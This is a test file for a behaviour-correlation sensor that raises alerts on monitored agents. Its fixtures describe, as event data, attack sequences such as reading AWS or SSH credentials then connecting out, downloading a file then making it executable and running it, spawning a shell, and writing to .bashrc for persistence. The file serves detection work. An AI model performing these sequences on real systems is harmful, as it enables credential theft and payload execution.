import { describe, expect, it } from 'vitest';
import { Correlator } from '../../../src/engine/sensors/correlator.js';
import type { AttributedEvent } from '../../../src/engine/sensors/sensorEvent.js';
import { DEFAULT_SENSOR_RULES, compileGlob, parseSensorRules } from '../../../src/engine/sensors/sensorRules.js';

let n = 0;
function ev(p: Partial<AttributedEvent> & Pick<AttributedEvent, 'kind'>): AttributedEvent {
  return { at: 1_000_000, pid: 50, ppid: 40, program: 'x', argv: [], path: null, dest: null, source: 'audit', ref: String(++n), agent: 'build-bot', ...p };
}

const correlator = (agentProgram = 'node') => new Correlator(DEFAULT_SENSOR_RULES, { agentProgram: () => agentProgram });

describe('correlation rules', () => {
  it('credentials read, then an outbound connection within the window: one P1 naming agent, pids, path and destination', () => {
    const c = correlator();
    const first = c.observe(ev({ kind: 'open', pid: 51, program: 'cat', path: '/home/u/.aws/credentials' }));
    expect(first.map((a) => a.check)).toEqual(['credentials_read']);
    const alerts = c.observe(ev({ kind: 'connect', at: 1_060_000, pid: 52, program: 'curl', dest: { address: '203.0.113.9', port: 443 } }));
    expect(alerts).toHaveLength(1);
    expect(alerts[0]).toMatchObject({ severity: 'P1', source: 'sensors', check: 'credentials_then_connect', path: '/home/u/.aws/credentials', ip: '203.0.113.9' });
    expect(alerts[0]!.message).toBe('build-bot read credentials (/home/u/.aws/credentials) and then connected to 203.0.113.9:443 (pids 51, 52)');
    expect((alerts[0]!.evidence as { events: unknown[] }).events).toHaveLength(2);
    // The same again within the window is not a second alert.
    expect(c.observe(ev({ kind: 'connect', at: 1_070_000, pid: 52, program: 'curl', dest: { address: '203.0.113.9', port: 443 } }))).toEqual([]);
  });

  it('no alert past the window, for a loopback destination, for another agent, or without an agent', () => {
    const c = correlator();
    c.observe(ev({ kind: 'open', path: '/root/.ssh/id_ed25519' }));
    expect(c.observe(ev({ kind: 'connect', at: 1_000_000 + 301_000, dest: { address: '203.0.113.9', port: 22 } }))).toEqual([]);
    c.observe(ev({ kind: 'open', at: 2_000_000, path: '/root/.ssh/id_ed25519' }));
    expect(c.observe(ev({ kind: 'connect', at: 2_000_100, dest: { address: '127.0.0.1', port: 22 } }))).toEqual([]);
    expect(c.observe(ev({ kind: 'connect', at: 2_000_200, agent: 'other', dest: { address: '203.0.113.9', port: 22 } }))).toEqual([]);
    expect(c.observe(ev({ kind: 'open', agent: null, path: '/root/.ssh/id_rsa' }))).toEqual([]);
  });

  it('download, chmod +x of the file, then running it: P1', () => {
    const c = correlator();
    c.observe(ev({ kind: 'exec', program: 'curl', argv: ['curl', '-o', '/tmp/.x', 'http://e/x'] }));
    c.observe(ev({ kind: 'exec', program: 'chmod', argv: ['chmod', '+x', '/tmp/.x'] }));
    expect(c.observe(ev({ kind: 'exec', program: 'ls', argv: ['ls'] }))).toEqual([]);
    const a = c.observe(ev({ kind: 'exec', program: '.x', path: '/tmp/.x', argv: ['/tmp/.x'] }));
    expect(a.map((x) => [x.severity, x.check])).toEqual([['P1', 'download_chmod_exec']]);
  });

  it('chmod +x of another file does not complete the sequence', () => {
    const c = correlator();
    c.observe(ev({ kind: 'exec', program: 'wget', argv: ['wget', 'http://e/x'] }));
    c.observe(ev({ kind: 'exec', program: 'chmod', argv: ['chmod', '+x', '/tmp/a'] }));
    expect(c.observe(ev({ kind: 'exec', program: 'b', path: '/tmp/b', argv: ['/tmp/b'] }))).toEqual([]);
  });

  it('a shell started by an agent that is not a shell is noted; by a shell agent it is not', () => {
    expect(correlator('node').observe(ev({ kind: 'exec', program: 'bash', argv: ['bash', '-c', 'id'] })).map((a) => a.check)).toEqual(['shell_from_agent']);
    expect(correlator('bash').observe(ev({ kind: 'exec', program: 'bash', argv: ['bash'] }))).toEqual([]);
  });

  it('a write to a persistence file is P1; a read of it is not', () => {
    const c = correlator();
    expect(c.observe(ev({ kind: 'open', path: '/home/u/.bashrc', write: true })).map((a) => [a.severity, a.check])).toEqual([['P1', 'persistence_write']]);
    expect(c.observe(ev({ kind: 'open', path: '/home/u/.bashrc', write: false }))).toEqual([]);
  });

  it('holds few partial sequences per agent however many starts arrive', () => {
    const c = correlator();
    for (let i = 0; i < 10_000; i++) c.observe(ev({ kind: 'exec', at: 1_000_000 + i, program: 'curl', argv: ['curl', `u${i}`] }));
    const partials = (c as unknown as { partials: Map<string, Map<string, unknown[]>> }).partials.get('build-bot')!;
    for (const list of partials.values()) expect(list.length).toBeLessThanOrEqual(16);
  });
});

describe('rules as data', () => {
  it('refuses a rule with an unknown path class, an unknown field or a bad severity, naming it', () => {
    expect(() => parseSensorRules('rules: [{id: a, severity: P1, message: m, steps: [{event: open, path: ["@nope"]}]}]', 'f.yaml')).toThrow(/f.yaml: rules.0.steps: rule a: no path class @nope/);
    expect(() => parseSensorRules('rules: [{id: a, severity: P9, message: m, steps: [{event: open}]}]')).toThrow(/severity/);
    expect(() => parseSensorRules('rules: [{id: a, severity: P1, message: m, steps: [{event: open, colour: red}]}]')).toThrow(/colour|Unrecognized/);
    expect(() => parseSensorRules(': : :')).toThrow(/not YAML/);
  });

  it('globs: ** crosses directories, * does not, and matching is linear on hostile paths', () => {
    expect(compileGlob('**/.ssh/id_*')('/home/a/.ssh/id_rsa')).toBe(true);
    expect(compileGlob('/etc/*')('/etc/cron.d/x')).toBe(false);
    expect(compileGlob('**a**a**a**a**b')('a'.repeat(4000))).toBe(false);
  });
});
